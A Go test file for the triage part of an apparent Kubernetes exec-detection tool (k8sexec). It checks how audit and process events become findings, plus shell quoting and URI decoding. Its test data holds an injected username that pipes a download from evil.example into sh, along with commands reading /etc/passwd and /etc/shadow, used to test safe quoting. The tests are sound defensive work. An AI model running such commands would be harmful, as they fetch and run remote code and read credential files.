package triage_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/k8sexec/k8sexec/rules"
	"github.com/k8sexec/k8sexec/scan"
	"github.com/k8sexec/k8sexec/triage"
	"github.com/tidwall/gjson"
)

func mustRule(t *testing.T, id string) *rules.Rule {
	t.Helper()
	rs, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		if r.ID == id {
			return r
		}
	}
	t.Fatalf("no built-in rule %s", id)
	return nil
}

// userRule parses a low-severity KQL rule of the user's; note may be
// empty.
func userRule(t *testing.T, id, name, query, note string) *rules.Rule {
	t.Helper()
	toml := fmt.Sprintf("[rule]\nrule_id = %q\nname = %q\nseverity = \"low\"\nrisk_score = 10\nlanguage = \"kuery\"\ntype = \"query\"\nquery = '%s'\n", id, name, query)
	if note != "" {
		toml += fmt.Sprintf("note = %q\n", note)
	}
	r, err := rules.Parse([]byte(toml), "u.toml")
	if err != nil {
		t.Fatal(err)
	}
	return r
}

const ruleDenied = "93f9d6b1-07b8-403f-b61f-f2195d61ea93"

const (
	rule1 = "14de811c-d60f-11ec-9fd7-f661ea17fbce"
	rule2 = "420e5bb4-93bf-40a3-8f4a-4cc1af90eca1"
	rule3 = "1c50f817-b9c2-4669-a629-d365cc2a0802"
)

// auditLine writes a raw audit event for an exec request.
func auditLine(auditID, stage, verb, user, uri string, code int, received, stageTS string, annotated bool) string {
	ann := ""
	if annotated {
		ann = `,"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by RoleBinding \"dbg\""}`
	}
	status := ""
	if code != 0 {
		status = fmt.Sprintf(`,"responseStatus":{"metadata":{},"code":%d}`, code)
	}
	return fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":%q,"stage":%q,"requestURI":%q,"verb":%q,"user":{"username":%q,"groups":["devs","system:authenticated"]},"sourceIPs":["203.0.113.9","10.0.0.1"],"userAgent":"kubectl/v1.29.0","objectRef":{"resource":"pods","namespace":"shop","name":"api-1","apiVersion":"v1","subresource":"exec"}%s,"requestReceivedTimestamp":%q,"stageTimestamp":%q%s}`,
		auditID, stage, uri, verb, user, status, received, stageTS, ann)
}

func event(t *testing.T, file string, line int64, raw string, rs ...*rules.Rule) triage.Event {
	t.Helper()
	doc, _ := scan.Adapt([]byte(raw))
	var matched []*rules.Rule
	for _, r := range rs {
		if r.Matches(doc) {
			matched = append(matched, r)
		}
	}
	return triage.Event{File: file, Line: line, Raw: []byte(raw), Doc: doc, Rules: matched}
}

const uriBash = "/api/v1/namespaces/shop/pods/api-1/exec?command=%2Fbin%2Fbash&container=api&stdin=true&stdout=true&tty=true"

func TestOneFindingPerExecRequest(t *testing.T) {
	r1 := mustRule(t, rule1)
	evs := []triage.Event{
		event(t, "audit.log", 7, auditLine("A", "RequestReceived", "create", "alice", uriBash, 0, "2026-11-20T10:00:00.000000Z", "2026-11-20T10:00:00.000000Z", false), r1),
		event(t, "audit.log", 8, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00.000000Z", "2026-11-20T10:00:00.050000Z", true), r1),
		event(t, "audit.log", 40, auditLine("A", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00.000000Z", "2026-11-20T10:14:03.500000Z", true), r1),
	}
	rep := triage.Build(evs, triage.Options{Inputs: []string{"audit.log"}, Guide: true})
	if len(rep.Findings) != 1 {
		t.Fatalf("%d findings, want 1", len(rep.Findings))
	}
	f := rep.Findings[0]
	if len(f.Evidence) != 2 || f.Evidence[0].Line != 8 || f.Evidence[1].Line != 40 {
		t.Errorf("evidence = %+v: only the stages that matched", f.Evidence)
	}
	if len(f.Context) != 1 || f.Context[0].Line != 7 || f.Context[0].Stage != "RequestReceived" {
		t.Errorf("context = %+v: the unmatched stage of the same request", f.Context)
	}
	s := f.Session
	if s == nil || strings.Join(s.Stages, ",") != "RequestReceived,ResponseStarted,ResponseComplete" || s.Ongoing {
		t.Fatalf("session = %+v", s)
	}
	if s.DurationMS == nil || *s.DurationMS != 14*60*1000+3500 {
		t.Errorf("duration = %v, want 843500ms", s.DurationMS)
	}
	if f.Timestamp != "2026-11-20T10:00:00Z" {
		t.Errorf("timestamp = %q, want the request's receive time", f.Timestamp)
	}
	if f.Process == nil || strings.Join(f.Process.Args, " ") != "/bin/bash" || f.Container.Name != "api" || !f.Exec.TTY || !f.Exec.Stdin || f.Exec.Stderr {
		t.Errorf("decoded request: process %+v container %+v exec %+v", f.Process, f.Container, f.Exec)
	}
	if f.Audit.Decision != "allow" || f.Audit.ResponseCode != 101 || !strings.HasPrefix(f.Audit.Reason, "RBAC") {
		t.Errorf("audit = %+v", f.Audit)
	}
	if strings.Join(f.Source.IP, ",") != "203.0.113.9,10.0.0.1" || f.User.Name != "alice" || len(f.User.Groups) != 2 {
		t.Errorf("who: user %+v source %+v", f.User, f.Source)
	}
	if !strings.Contains(f.Guidance, "The session lasted 14m 3s") {
		t.Errorf("guidance should state the session length:\n%s", f.Guidance)
	}
}

// TestFindingIDsAreStable: the ID depends on the rule and the request,
// not on file names, line numbers or event order.
func TestFindingIDsAreStable(t *testing.T) {
	r1 := mustRule(t, rule1)
	a := auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
	b := auditLine("B", "ResponseStarted", "create", "bob", uriBash, 101, "2026-11-20T11:00:00Z", "2026-11-20T11:00:00Z", true)
	one := triage.Build([]triage.Event{event(t, "x.log", 1, a, r1), event(t, "x.log", 2, b, r1)}, triage.Options{})
	two := triage.Build([]triage.Event{event(t, "other.log.gz", 99, b, r1), event(t, "-", 5, a, r1)}, triage.Options{})
	if len(one.Findings) != 2 || len(two.Findings) != 2 {
		t.Fatal("want two findings each")
	}
	for i := range one.Findings {
		if one.Findings[i].ID != two.Findings[i].ID {
			t.Errorf("finding %d: ID %s vs %s", i, one.Findings[i].ID, two.Findings[i].ID)
		}
	}
	if one.Findings[0].ID == one.Findings[1].ID {
		t.Error("different requests must have different IDs")
	}
	if len(one.Findings[0].ID) != 16 {
		t.Errorf("ID %q: want 16 hex digits", one.Findings[0].ID)
	}
}

func TestTwoRulesOnOneRequestAreTwoFindings(t *testing.T) {
	r1 := mustRule(t, rule1)
	other := userRule(t, "u-exec-ns", "Exec in ns", `kubernetes.audit.objectRef.namespace:ns`, "")
	raw := `{"event":{"dataset":"kubernetes.audit_logs"},"kubernetes":{"audit":{"auditID":"X","verb":"create","objectRef":{"resource":"pods","subresource":"exec","namespace":"ns","name":"p"},"annotations":{"authorization_k8s_io/decision":"allow"}}}}`
	rep := triage.Build([]triage.Event{event(t, "e.ndjson", 1, raw, r1, other)}, triage.Options{})
	if len(rep.Findings) != 2 || rep.Findings[0].ID == rep.Findings[1].ID {
		t.Fatalf("findings = %+v", rep.Findings)
	}
}

// k8sexec's WebSocket rule fills the seed exec rule's gap (verb get).
// Elastic's current version of the exec rule matches verb get too: when
// the rule of that rule_id finds the same request, only its finding is
// kept, and no note says the exec rule missed it. Where it did miss the
// request, the WebSocket finding stays, and the notes name the rule that
// ran, not the seed.
func TestComplementingRuleStandsAsideWhenCovered(t *testing.T) {
	builtin, ws := mustRule(t, rule1), mustRule(t, rule3)
	if ws.Complements != rule1 {
		t.Fatalf("WebSocket rule complements %q, want %q", ws.Complements, rule1)
	}
	repl := userRule(t, rule1, "Exec, level Request only", `kubernetes.audit.objectRef.subresource:exec and kubernetes.audit.level:Request`, "")
	repl.Source = "elastic/exec.toml"
	replaced := map[*rules.Rule]*rules.Rule{builtin: repl}
	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=sh&stdin=true&stdout=true&tty=true"
	line := func(id string) string {
		return auditLine(id, "ResponseComplete", "get", "bob", uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:02:00Z", true)
	}
	atRequest := strings.Replace(line("R"), `"level":"Metadata"`, `"level":"Request"`, 1)

	// Both match R: one finding, the replacement's, and no WebSocket note.
	rep := triage.Build([]triage.Event{event(t, "a.log", 1, atRequest, repl, ws)}, triage.Options{Replaced: replaced})
	if len(rep.Findings) != 1 || rep.Findings[0].Rule.ID != rule1 || len(rep.Findings[0].Notes) != 0 || len(rep.Notes) != 0 {
		t.Fatalf("findings %+v, notes %q: want the replacement's finding alone, without notes", rep.Findings, rep.Notes)
	}

	// Only the WebSocket rule matches M (logged at Metadata): its finding
	// stays and says which rule missed it.
	rep = triage.Build([]triage.Event{event(t, "a.log", 2, line("M"), repl, ws)}, triage.Options{Replaced: replaced})
	if len(rep.Findings) != 1 || rep.Findings[0].Rule.ID != rule3 {
		t.Fatalf("findings %+v, want the WebSocket rule's", rep.Findings)
	}
	// The loaded rule matches verb get: it missed M for a reason of its
	// own, which the notes do not pretend to know.
	wantNote := `The loaded rule "Exec, level Request only" from elastic/exec.toml, which replaced the seed version of that rule, did not match this WebSocket exec (verb get).`
	if notes := rep.Findings[0].Notes; len(notes) != 1 || notes[0] != wantNote {
		t.Errorf("finding notes %q, want %q", notes, wantNote)
	}
	if len(rep.Notes) != 1 || !strings.HasPrefix(rep.Notes[0], `1 WebSocket exec request(s) (verb get) were not matched by the loaded rule "Exec, level Request only" from elastic/exec.toml, which replaced the seed version of that rule; "Kubernetes User Exec into Pod over WebSocket" reported them.`) {
		t.Errorf("report notes %q", rep.Notes)
	}
	// A rule that did not run (--disable-rule) is said nothing of.
	rep = triage.Build([]triage.Event{event(t, "a.log", 2, line("M"), ws)}, triage.Options{Running: func(id string) bool { return id != rule1 }})
	if len(rep.Findings) != 1 || len(rep.Findings[0].Notes) != 0 || len(rep.Notes) != 0 {
		t.Errorf("with the exec rule disabled: findings %+v, notes %q", rep.Findings, rep.Notes)
	}

	// With the seed rule in place, the notes say what the seed looks for.
	rep = triage.Build([]triage.Event{event(t, "a.log", 2, line("M"), builtin, ws)}, triage.Options{})
	if len(rep.Findings) != 1 || len(rep.Notes) != 1 || !strings.Contains(rep.Notes[0], `seed rule "Kubernetes User Exec into Pod" (verb create only)`) {
		t.Errorf("findings %+v, notes %q", rep.Findings, rep.Notes)
	}
}

// TestRefusedWebSocketExec: a Kubernetes 1.35 WebSocket exec refused with
// 403 after authorization logged allow opened no session: the WebSocket rule
// leaves it out, the denied-exec rule reports it, and nothing calls it open.
func TestRefusedWebSocketExec(t *testing.T) {
	r3, denied := mustRule(t, rule3), mustRule(t, ruleDenied)
	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=sh&stdin=true&stdout=true&tty=true"
	rep := triage.Build([]triage.Event{
		event(t, "a.log", 1, auditLine("W", "ResponseStarted", "get", "bob", uri, 403, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true), r3, denied),
	}, triage.Options{Guide: true})
	if len(rep.Findings) != 1 || rep.Findings[0].Rule.ID != ruleDenied {
		t.Fatalf("findings %+v, want one of the denied-exec rule", rep.Findings)
	}
	f := rep.Findings[0]
	notes := strings.Join(f.Notes, "\n")
	if !strings.Contains(notes, "403") {
		t.Errorf("notes = %q", notes)
	}
	if strings.Contains(notes, "No ResponseComplete") {
		t.Errorf("a refused request is not an open session: %q", notes)
	}
	if len(rep.Notes) != 0 {
		t.Errorf("report notes = %q: a refused request is no WebSocket exec Elastic missed", rep.Notes)
	}
	if !strings.Contains(f.Guidance, "403 after authorization logged allow") {
		t.Errorf("guidance should explain the 403:\n%s", f.Guidance)
	}
}

func TestProcessFindingMergesForkAndExec(t *testing.T) {
	r2 := mustRule(t, rule2)
	proc := func(action, ts string) string {
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"category":["process"],"type":["start"],"action":%q},"container":{"id":"c0ffee","name":"api","image":{"name":"shop/api","tag":"1.4"}},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"},"cluster":{"name":"prod"}},"host":{"name":"node-a"},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["bash"],"interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`, ts, action)
	}
	rep := triage.Build([]triage.Event{
		event(t, "p.ndjson", 1, proc("fork", "2026-11-20T10:00:00.300Z"), r2),
		event(t, "p.ndjson", 2, proc("exec", "2026-11-20T10:00:00.200Z"), r2),
	}, triage.Options{Inputs: []string{"p.ndjson"}, Guide: true})
	if len(rep.Findings) != 1 {
		t.Fatalf("%d findings, want 1", len(rep.Findings))
	}
	f := rep.Findings[0]
	if f.Kind != triage.KindProcess || f.Timestamp != "2026-11-20T10:00:00.2Z" || len(f.Evidence) != 2 {
		t.Errorf("finding = kind %s time %s evidence %+v", f.Kind, f.Timestamp, f.Evidence)
	}
	if f.Container.Image != "shop/api:1.4" || f.Host.Name != "node-a" || f.Orch.Cluster.Name != "prod" || f.Process.PID != 42 || !*f.Process.Interactive {
		t.Errorf("fields: %+v %+v %+v %+v", f.Container, f.Host, f.Orch, f.Process)
	}
	if !strings.Contains(f.Guidance, `k8sexec search 'process.entry_leader.entity_id:"E1"' p.ndjson`) {
		t.Errorf("guidance should give the session search:\n%s", f.Guidance)
	}
}

func TestFindingsSortedBySeverityThenTime(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	late := auditLine("L", "ResponseStarted", "create", "u", uriBash, 101, "2026-11-20T12:00:00Z", "2026-11-20T12:00:00Z", true)
	early := auditLine("E", "ResponseStarted", "create", "u", uriBash, 101, "2026-11-20T09:00:00.5Z", "2026-11-20T09:00:00.5Z", true)
	earlier := auditLine("F", "ResponseStarted", "create", "u", uriBash, 101, "2026-11-20T09:00:00Z", "2026-11-20T09:00:00Z", true)
	proc := `{"@timestamp":"2026-11-20T13:00:00Z","event":{"category":"process","type":"start"},"container":{"id":"c"},"process":{"entity_id":"P","interactive":true,"entry_leader":{"same_as_process":true,"entry_meta":{"type":"container"}}}}`
	rep := triage.Build([]triage.Event{
		event(t, "a", 1, late, r1), event(t, "a", 2, early, r1), event(t, "a", 3, proc, r2), event(t, "a", 4, earlier, r1),
	}, triage.Options{})
	var got []string
	for _, f := range rep.Findings {
		if f.Audit != nil {
			got = append(got, f.Audit.AuditID)
		} else {
			got = append(got, f.Process.EntityID)
		}
	}
	if strings.Join(got, ",") != "P,F,E,L" {
		t.Errorf("order %v, want high first, then by time (09:00:00 before 09:00:00.5)", got)
	}
}

// TestGuideQuotesHostileValues: values from the log reach copy-paste
// commands only through shell quoting.
func TestGuideQuotesHostileValues(t *testing.T) {
	r1 := mustRule(t, rule1)
	user := `x'; curl evil.example | sh; echo '`
	raw := auditLine("H", "ResponseStarted", "create", user, uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
	rep := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r1)}, triage.Options{Inputs: []string{"my logs/a.log"}, Guide: true})
	g := rep.Findings[0].Guidance
	if !strings.Contains(g, `--as 'x'\''; curl evil.example | sh; echo '\'''`) {
		t.Errorf("user not shell-quoted in the kubectl command:\n%s", g)
	}
	if !strings.Contains(g, `'my logs/a.log'`) {
		t.Errorf("input path not quoted:\n%s", g)
	}
}

func TestUserRuleNoteShownAsWritten(t *testing.T) {
	r := userRule(t, "u-1", "User rule", `kubernetes.audit.verb:"create"`, "Look at {{.User}} by hand.")
	raw := auditLine("U", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
	rep := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r)}, triage.Options{Guide: true})
	if g := rep.Findings[0].Guidance; g != "Look at {{.User}} by hand." {
		t.Errorf("a note that is not a k8sexec template must be shown verbatim, got %q", g)
	}
}

func TestBuiltinGuidesRenderForEveryKind(t *testing.T) {
	// A template error would show up as the raw template in the guidance.
	for _, id := range []string{rule1, rule2, rule3} {
		r := mustRule(t, id)
		for _, raw := range []string{
			auditLine("G", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true),
			`{"@timestamp":"2026-11-20T13:00:00Z","process":{"entity_id":"P"}}`,
			`{"message":"nothing we know"}`,
		} {
			doc, _ := scan.Adapt([]byte(raw))
			rep := triage.Build([]triage.Event{{File: "f", Line: 1, Raw: []byte(raw), Doc: doc, Rules: []*rules.Rule{r}}}, triage.Options{Guide: true})
			g := rep.Findings[0].Guidance
			if strings.Contains(g, "{{") || strings.Contains(g, "template failed") || g == "" {
				t.Errorf("rule %s on %.40s: guide did not render:\n%s", id, raw, g)
			}
		}
	}
}

func TestShellQuote(t *testing.T) {
	for in, want := range map[string]string{
		"":              "''",
		"plain":         "plain",
		"/bin/bash":     "/bin/bash",
		"a b":           "'a b'",
		"it's":          `'it'\''s'`,
		"$(id)":         "'$(id)'",
		"line\nbreak":   `$'line\nbreak'`,
		"esc\x1b[31m":   `$'esc\x1b[31m'`,
		"quote'\n":      `$'quote\'\n'`,
		"user@host:123": "user@host:123",
		// Characters the report's cleaning drops are escaped, so the
		// command printed still names the whole value.
		"api\u202e":          `$'api\xe2\x80\xae'`,
		"c1\u009bx":          `$'c1\xc2\x9bx'`,
		"del\x7f":            `$'del\x7f'`,
		"mark\u200fé":        `$'mark\xe2\x80\x8fé'`,
		"bad\xffutf8":        `$'bad\xffutf8'`,
		"nobidi\u2067\u061c": `$'nobidi\xe2\x81\xa7\xd8\x9c'`,
	} {
		if got := triage.ShellQuote(in); got != want {
			t.Errorf("ShellQuote(%q) = %s, want %s", in, got, want)
		}
	}
	// bash reads every quoting back as the value, byte for byte.
	if bash, err := exec.LookPath("bash"); err == nil {
		for _, in := range []string{"$(id)", "it's", "line\nbreak", "cr\r\ntab\t", "esc\x1b[31m", "api\u202e", "c1\u009bx", "del\x7f", "bad\xffutf8", "é\u2066\\'"} {
			cmd := exec.Command(bash, "-c", "printf %s "+triage.ShellQuote(in))
			cmd.Env = append(os.Environ(), "LC_ALL=C") // no locale: the quoting must not need one
			out, err := cmd.Output()
			if err != nil || string(out) != in {
				t.Errorf("bash reads %s as %q (%v), want %q", triage.ShellQuote(in), out, err, in)
			}
		}
	}
	if got := triage.Command([]string{"sh", "-c", "echo hi && id"}); got != "sh -c 'echo hi && id'" {
		t.Errorf("Command = %s", got)
	}
}

func TestExecURIDecoding(t *testing.T) {
	r1 := mustRule(t, rule1)
	for _, tc := range []struct {
		uri       string
		args      string
		container string
		tty       bool
	}{
		{"/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=echo+hi+%26%26+cat+%2Fetc%2Fpasswd&container=c&stdin=true&tty=true", "sh|-c|echo hi && cat /etc/passwd", "c", true},
		{"/api/v1/namespaces/n/pods/p/exec?command=ls&command=-la%20%2Fapp&container=c&stderr=true&stdout=true", "ls|-la /app", "c", false},
		{"/api/v1/namespaces/n/pods/p/exec?container=c&command=tar&command=cf&command=-", "tar|cf|-", "c", false},
		{"/api/v1/namespaces/n/pods/p/exec", "", "", false},
		{"/api/v1/namespaces/n/pods/p/exec?command=%ZZbad&command=ok&container=c", "ok", "c", false},
	} {
		raw := auditLine("D", "ResponseStarted", "create", "u", tc.uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)
		f := triage.Build([]triage.Event{event(t, "a", 1, raw, r1)}, triage.Options{}).Findings[0]
		var args []string
		if f.Process != nil {
			args = f.Process.Args
		}
		container := ""
		if f.Container != nil {
			container = f.Container.Name
		}
		tty := f.Exec != nil && f.Exec.TTY
		if strings.Join(args, "|") != tc.args || container != tc.container || tty != tc.tty {
			t.Errorf("%s: args %q container %q tty %v", tc.uri, args, container, tty)
		}
	}
}

func TestFormatDuration(t *testing.T) {
	for ms, want := range map[int64]string{350: "350ms", 1500: "1.5s", 843500: "14m 3s", 7500000: "2h 5m"} {
		if got := triage.FormatDuration(durationMS(ms)); got != want {
			t.Errorf("FormatDuration(%dms) = %q, want %q", ms, got, want)
		}
	}
}

func TestSummarize(t *testing.T) {
	doc, _ := scan.Adapt([]byte(auditLine("S", "ResponseStarted", "get", "bob", "/api/v1/namespaces/shop/pods/api-1/exec?command=sh&tty=true", 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true)))
	s := triage.Summarize(doc)
	if s.Who != "bob" || s.Action != "get pods/exec" || s.Where != "shop/api-1" || !strings.Contains(s.What, "allow 101 ResponseStarted sh") {
		t.Errorf("audit summary = %+v", s)
	}
	doc, _ = scan.Adapt([]byte(`{"@timestamp":"2026-11-20T10:00:00Z","event":{"action":"exec","type":["start"]},"user":{"id":"0"},"orchestrator":{"namespace":"shop","resource":{"name":"api-1"}},"container":{"name":"api"},"host":{"name":"n1"},"process":{"args":["cat","/etc/shadow"],"pid":7}}`))
	s = triage.Summarize(doc)
	if s.Who != "uid 0" || s.Action != "exec start" || s.Where != "shop/api-1  container api  node n1" || s.What != "cat /etc/shadow (pid 7)" {
		t.Errorf("process summary = %+v", s)
	}
}

func durationMS(ms int64) time.Duration { return time.Duration(ms) * time.Millisecond }

// releaseDoc counts Release calls and fails a read after one.
type releaseDoc struct {
	rules.Document
	t        *testing.T
	released atomic.Int32
}

func (d *releaseDoc) Any(f *rules.Field, test func(gjson.Result) bool) bool {
	if d.released.Load() > 0 {
		d.t.Errorf("%s read after the document was released", f.Name)
	}
	return d.Document.Any(f, test)
}

func (d *releaseDoc) Release() { d.released.Add(1) }

// Build lets each event's document go once the last finding reading it is
// built (many findings hold their value indexes otherwise), never before
// it, and never for the session context it reads afterwards; the findings
// are the same.
func TestBuildReleasesDocumentsAfterTheirLastReader(t *testing.T) {
	r1, r3 := mustRule(t, rule1), mustRule(t, rule3)
	var plain []triage.Event
	for i := range 150 {
		id := fmt.Sprintf("req-%03d", i)
		// Three stages of one request: one finding reads all three, the
		// first only as context.
		for j, st := range []string{"RequestReceived", "ResponseStarted", "ResponseComplete"} {
			code := 101
			if j == 0 {
				code = 0
			}
			ev := event(t, "a.log", int64(3*i+j+1), auditLine(id, st, "create", "alice", uriBash, code, "2026-11-20T09:00:00Z", "2026-11-20T09:00:01Z", j == 2), r1)
			if j == 0 {
				ev.Rules = nil
			}
			ev.Context = []string{triage.ContextStages}
			plain = append(plain, ev)
		}
		// One event two rules match: two findings read it.
		raw := fmt.Sprintf(`{"event":{"dataset":"kubernetes.audit_logs"},"kubernetes":{"audit":{"auditID":"ecs-%03d","verb":["get","create"],"objectRef":{"resource":"pods","subresource":"exec","namespace":"ns","name":"p"},"annotations":{"authorization_k8s_io/decision":"allow"}}}}`, i)
		plain = append(plain, event(t, "e.ndjson", int64(i+1), raw, r1, r3))
	}
	// Session commands, which a rule of the user's also matches: read
	// again once the findings are built.
	byUser := userRule(t, "u-id", "id run in a container", `process.executable:"/usr/bin/id"`, "")
	for i := range 5 {
		raw := fmt.Sprintf(`{"@timestamp":"2026-11-20T09:00:0%dZ","event":{"category":["process"],"action":"exec"},"process":{"entity_id":"c%d","executable":"/usr/bin/id","args":["id"],"entry_leader":{"entity_id":"L1","interactive":true,"entry_meta":{"type":"container"}}}}`, i, i)
		ev := event(t, "p.ndjson", int64(i+1), raw, byUser)
		if len(ev.Rules) != 1 {
			t.Fatalf("the user's rule does not match %s", raw)
		}
		ev.Context = []string{triage.ContextCommands}
		plain = append(plain, ev)
	}
	wrapped := make([]triage.Event, len(plain))
	docs := make([]*releaseDoc, len(plain))
	for i, ev := range plain {
		docs[i] = &releaseDoc{Document: ev.Doc, t: t}
		ev.Doc = docs[i]
		wrapped[i] = ev
	}
	want, _ := json.Marshal(triage.Build(plain, triage.Options{Guide: true}).Findings)
	got, _ := json.Marshal(triage.Build(wrapped, triage.Options{Guide: true}).Findings)
	if string(got) != string(want) {
		t.Errorf("findings changed when documents are released")
	}
	for i, d := range docs {
		n, commands := d.released.Load(), plain[i].Context != nil && plain[i].Context[0] == triage.ContextCommands
		if commands && n != 0 || !commands && n != 1 {
			t.Errorf("event %d (%s:%d): released %d times", i, plain[i].File, plain[i].Line, n)
		}
	}
}

// A rule about objects rather than sessions (a secret read, as Elastic's
// published rules have many) gives an audit finding that says what the
// object is: no pod, no exec streams, and no open session when the log
// holds only the request's first stage.
func TestObjectRequestFinding(t *testing.T) {
	r := userRule(t, "secret-read", "Secret read", `kubernetes.audit.objectRef.resource:secrets and kubernetes.audit.verb:get`, "")
	line := `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"S","stage":"RequestReceived","requestURI":"/api/v1/namespaces/shop/secrets/api-tls?stdin=true\u0026tty=true","verb":"get","user":{"username":"system:serviceaccount:shop:api"},"sourceIPs":["10.0.0.7"],"objectRef":{"resource":"secrets","namespace":"shop","name":"api-tls","apiVersion":"v1"},"requestReceivedTimestamp":"2026-11-20T10:00:00Z","stageTimestamp":"2026-11-20T10:00:00Z"}`
	rep := triage.Build([]triage.Event{event(t, "a.log", 1, line, r)}, triage.Options{Guide: true})
	if len(rep.Findings) != 1 {
		t.Fatalf("%d findings, want 1", len(rep.Findings))
	}
	f := rep.Findings[0]
	if f.Kind != triage.KindAudit || triage.Streams(f) {
		t.Errorf("kind %q, streams %v: an audit request that is no session", f.Kind, triage.Streams(f))
	}
	if f.Orch == nil || f.Orch.Namespace != "shop" || f.Orch.Resource == nil || *f.Orch.Resource != (triage.Resource{Type: "secrets", Name: "api-tls"}) {
		t.Errorf("orchestrator = %+v, want the secret shop/api-tls", f.Orch)
	}
	if f.Exec != nil || f.Process != nil || f.Container != nil {
		t.Errorf("exec %+v process %+v container %+v: a secret read has no streams, even with such parameters in its URI", f.Exec, f.Process, f.Container)
	}
	if notes := strings.Join(f.Notes, "\n"); strings.Contains(notes, "session") {
		t.Errorf("notes = %q: a secret read is no session that may still be open", notes)
	}

	// A request for many objects names a namespace and no object.
	list := strings.NewReplacer(`"name":"api-tls",`, "", `"verb":"get"`, `"verb":"list"`, "secrets/api-tls", "secrets").Replace(line)
	r = userRule(t, "secret-list", "Secret list", `kubernetes.audit.objectRef.resource:secrets`, "")
	rep = triage.Build([]triage.Event{event(t, "a.log", 1, list, r)}, triage.Options{})
	if f := rep.Findings[0]; f.Orch == nil || f.Orch.Namespace != "shop" || f.Orch.Resource == nil || *f.Orch.Resource != (triage.Resource{Type: "secrets"}) {
		t.Errorf("orchestrator = %+v, want namespace shop and type secrets", f.Orch)
	}

	// A controller creates pods by generateName: the request names no
	// object, the response (at level RequestResponse) says what the pod
	// was called.
	create := `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"P","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods","verb":"create","user":{"username":"system:serviceaccount:kube-system:replicaset-controller"},"objectRef":{"resource":"pods","namespace":"shop","apiVersion":"v1"},"requestObject":{"metadata":{"generateName":"web-5c-"}},"responseObject":{"metadata":{"name":"web-5c-x7k2p","namespace":"shop"}},"requestReceivedTimestamp":"2026-11-20T10:00:00Z","stageTimestamp":"2026-11-20T10:00:00Z"}`
	r = userRule(t, "pod-create", "Pod created", `kubernetes.audit.verb:create and kubernetes.audit.objectRef.resource:pods`, "")
	rep = triage.Build([]triage.Event{event(t, "a.log", 1, create, r)}, triage.Options{})
	if f := rep.Findings[0]; f.Orch == nil || f.Orch.Resource == nil || *f.Orch.Resource != (triage.Resource{Type: "pod", Name: "web-5c-x7k2p"}) {
		t.Errorf("orchestrator = %+v, want the created pod shop/web-5c-x7k2p", f.Orch)
	}
}

// A loaded rule that replaces a built-in may miss what the built-in finds
// (Elastic's exec rule wants audit level Request). The scan runs both;
// the built-in's matches make no findings, and a note counts the requests
// only it matched, where the first is.
func TestReplacedBuiltinMissesAreNoted(t *testing.T) {
	builtin := mustRule(t, rule1)
	repl := userRule(t, rule1, "Exec, level Request only", `kubernetes.audit.level:Request`, "")
	repl.Source = "elastic/exec.toml"
	uriB := strings.Replace(uriBash, "api-1", "api-2", 1)
	evs := []triage.Event{
		event(t, "audit.log", 7, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z", true), builtin),
		event(t, "audit.log", 9, auditLine("A", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true), builtin),
		event(t, "audit.log", 12, auditLine("B", "ResponseComplete", "create", "bob", uriB, 101, "2026-11-20T10:02:00Z", "2026-11-20T10:03:00Z", true), builtin),
	}
	evs[2].Rules = append(evs[2].Rules, repl) // B was logged at level Request, say
	rep := triage.Build(evs, triage.Options{Replaced: map[*rules.Rule]*rules.Rule{builtin: repl}})
	if len(rep.Findings) != 1 || rep.Findings[0].Rule.Name != repl.Name || rep.Findings[0].User.Name != "bob" {
		t.Fatalf("findings %+v, want only the replacement's, on bob's request", rep.Findings)
	}
	want := `"Exec, level Request only" from elastic/exec.toml replaced k8sexec's built-in rule of that rule_id and did not match 1 request(s) the built-in finds (the first at audit.log:7, alice create pods/exec shop/api-1 at 2026-11-20T10:00:00Z)`
	if len(rep.Notes) != 1 || !strings.HasPrefix(rep.Notes[0], want) {
		t.Errorf("notes = %q, want one starting %q", rep.Notes, want)
	}

	// A request the replacement matched at another stage is no miss: the
	// replacement's finding covers it.
	evs[0].Rules = []*rules.Rule{builtin}
	evs[1].Rules = []*rules.Rule{builtin, repl}
	if rep := triage.Build(evs, triage.Options{Replaced: map[*rules.Rule]*rules.Rule{builtin: repl}}); len(rep.Notes) != 0 || len(rep.Findings) != 2 {
		t.Errorf("notes %q and %d findings, want none and 2", rep.Notes, len(rep.Findings))
	}

	// A replacement that matches all the built-in does gives no note.
	for i := range evs {
		evs[i].Rules = []*rules.Rule{builtin, repl}
	}
